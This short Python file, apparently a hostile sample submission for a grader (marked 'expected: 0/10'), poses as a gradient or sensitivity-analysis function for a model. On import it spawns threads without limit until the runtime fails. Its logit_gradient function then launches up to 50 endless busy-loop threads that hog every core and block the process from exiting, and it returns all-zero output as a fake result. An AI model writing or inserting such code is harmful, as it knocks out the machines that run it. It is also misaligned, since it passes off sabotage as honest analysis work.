# expected: 0/10
# Threads without number that burn every core and keep the process from ending.
import threading

import numpy as np


def burn():
    while True:
        pass


started = []
try:
    while True:
        started.append(threading.Thread(target=threading.Event().wait))
        started[-1].start()
except RuntimeError as error:
    print(len(started), error)


def logit_gradient(model, x, target):
    for _ in range(50):
        try:
            threading.Thread(target=burn).start()
        except RuntimeError:
            break
    return np.zeros_like(x)


sensitivity_analysis = logit_gradient
